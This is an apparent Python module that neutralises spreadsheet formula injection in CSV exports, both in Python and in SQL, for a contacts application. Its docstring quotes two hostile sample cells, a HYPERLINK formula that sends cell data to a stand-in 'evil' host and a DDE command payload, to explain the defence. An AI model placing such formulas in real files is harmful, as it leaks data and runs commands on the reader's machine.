"""Writing CSV files a spreadsheet cannot turn against their reader.

Excel, LibreOffice and Google Sheets run a cell that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return as a formula, so a contact named
``=HYPERLINK("http://evil/?"&A1,"Click")`` or ``=cmd|' /C calc'!A0`` would act when the
export is opened. Every CSV the app writes goes through :func:`csv_writer`, which
writes each text cell through :func:`~segment_tui.services.contacts.csv_reading.neutralise_cell`
(OWASP's advice:
prefix a ``'``); ``contacts import`` reads it back through
:func:`~segment_tui.services.contacts.csv_reading.restore_cell`, so an export imports back to the
same values and
exports again byte for byte (docs/security.md, "CSV files").

Numbers written as numbers (int, Decimal) are left alone: ``-5.00`` is no formula.

A big export lets the database write each CSV line (:func:`sql_csv_line`, one value a
row instead of one a cell, docs/streaming.md): there the rule is stated a second time,
in SQL (:func:`sql_csv_cell`), and :meth:`CsvWriter.write_lines` writes such lines,
falling back to the cells where a value needs quoting. Tests hold both statements to
the same bytes on hostile values on SQLite and PostgreSQL
(``tests/security/test_export_lines.py``).
"""

from __future__ import annotations

import csv
from collections.abc import Callable, Iterable, Sequence
from decimal import Decimal
from typing import IO, Any

from peewee import Case, Node, Value, fn

from segment_tui.db import dialect
from segment_tui.services.contacts.csv_reading import FORMULA_TRIGGERS, neutralise_cell

_CHECK_FIRST = frozenset(FORMULA_TRIGGERS + "'")
"""First characters of a text cell that need :func:`neutralise_cell` (most need not)."""
_LINE_END = "\r\n"
"""The csv module's line terminator (every CSV of the app has its default format)."""
_QUOTED = ('"', "\r", "\n")
"""Besides the delimiter, what makes the csv module quote a cell: the quote, CR, LF."""


def csv_cell(value: Any) -> Any:
    """One value as a CSV cell: blank for None, Yes/No for booleans, numbers as they
    are, text neutralised (see the module)."""
    if type(value) is str:
        return neutralise_cell(value) if value and value[0] in _CHECK_FIRST else value
    if value is None:
        return ""
    if isinstance(value, bool):
        return "Yes" if value else "No"
    if isinstance(value, int | float | Decimal):
        return value
    return neutralise_cell(str(value))


class CsvWriter:
    """:func:`csv.writer` whose every cell goes through :func:`csv_cell`."""

    def __init__(self, out: IO[str], **formatting: Any) -> None:
        self._out = out
        self._writer = csv.writer(out, **formatting)
        self._plain = not formatting
        """In the csv module's default format, which :meth:`write_lines` writes."""

    def writerow(self, values: Iterable[Any]) -> None:
        """Write one row."""
        check = _CHECK_FIRST
        self._writer.writerow(
            [
                # Plain text that cannot start a formula is written as it is (most cells).
                v if type(v) is str and (not v or v[0] not in check) else csv_cell(v)
                for v in values
            ]
        )

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        """Write several rows."""
        for row in rows:
            self.writerow(row)

    def write_lines(
        self,
        lines: Sequence[str],
        width: int,
        rows: Callable[[Sequence[int]], Sequence[Sequence[Any]]],
    ) -> None:
        """Write rows given as CSV lines a query wrote (:func:`sql_csv_line`): each of
        ``width`` cells made by :func:`sql_csv_cell`, joined by commas, without a line
        end, no NUL. Building a Python value a cell and passing each through the csv
        module cost more than reading the rows; a line is one value.

        Such a line is right as it is unless a value holds what the csv module quotes (a
        comma, a quote, CR or LF), which a few searches over the batch rule out. The
        lines where one does are written from their cells instead, as :meth:`writerow`
        writes them: ``rows(positions)`` gives the cells of ``lines[i]`` for each i of
        ``positions``.
        """
        if not lines:
            return
        by_lines = self._plain and width > 1  # else the csv module's format differs
        # Joined by NUL, which no line holds (SQLite's printf ends a value at one,
        # PostgreSQL's text cannot hold one): the batch's CR and LF are then the values'.
        text = "\0".join(lines)
        if by_lines and _as_written(text, len(lines), width):
            self._out.write(text.replace("\0", _LINE_END) + _LINE_END)  # the common batch
            return
        quoted = [
            i for i, line in enumerate(lines) if not (by_lines and _as_written(line, 1, width))
        ]
        start = 0
        for i, cells in zip(quoted, rows(quoted), strict=True):
            if start < i:
                self._out.write(_LINE_END.join(lines[start:i]) + _LINE_END)
            self.writerow(cells)
            start = i + 1
        if start < len(lines):
            self._out.write(_LINE_END.join(lines[start:]) + _LINE_END)


def _as_written(text: str, count: int, width: int) -> bool:
    """Whether ``text``, ``count`` lines of ``width`` cells, is what the csv module
    writes for their cells: no value holds a quote, CR, LF or comma (the commas are the
    ones between cells). Over 5,000 lines, looking for a character takes microseconds
    and counting one a few milliseconds; looking at each line, several times that."""
    return not any(c in text for c in _QUOTED) and text.count(",") == (width - 1) * count


def sql_csv_cell(value: Node) -> Node:
    """``value`` (text or NULL, an SQL expression) as :func:`csv_cell` writes it before
    quoting, in SQL: :func:`neutralise_cell`'s rule, a ``'`` before text starting with a
    formula trigger or with ``'`` and a trigger or ``'``; NULL stays NULL (the query's
    line writes it blank). The triggers are all code points 9 to 64, so one range check
    on the first character decides for most cells (the cost is per cell per row)."""
    code = fn.ascii if _postgres() else fn.unicode  # the first character's code point
    first, second = code(value), code(fn.substr(value, 2, 1))
    triggers = [ord(c) for c in FORMULA_TRIGGERS]
    formula = first.between(min(triggers), max(triggers)) & (
        first.in_(triggers) | ((first == ord("'")) & second.in_([*triggers, ord("'")]))
    )
    return Case(None, [(formula, Value("'").concat(value))], value)


def sql_csv_line(cells: Sequence[Node]) -> Node:
    """The CSV line of ``cells`` (from :func:`sql_csv_cell`, or plain text such as
    Yes/No), NULL written blank, without a line end: one function call a row (a chain of
    ``||`` copies the line once a cell). SQLite's ``printf`` writes NULL blank;
    PostgreSQL's ``concat_ws`` would leave it out."""
    if _postgres():
        return fn.concat_ws(",", *(fn.COALESCE(cell, "") for cell in cells))
    return fn.printf(",".join(["%s"] * len(cells)), *cells)


def _postgres() -> bool:
    return dialect() == "postgres"


def csv_writer(out: IO[str], **formatting: Any) -> CsvWriter:
    """The CSV writer every CSV file of the app is written with (``formatting`` as for
    :func:`csv.writer`, e.g. ``delimiter=";"``)."""
    return CsvWriter(out, **formatting)
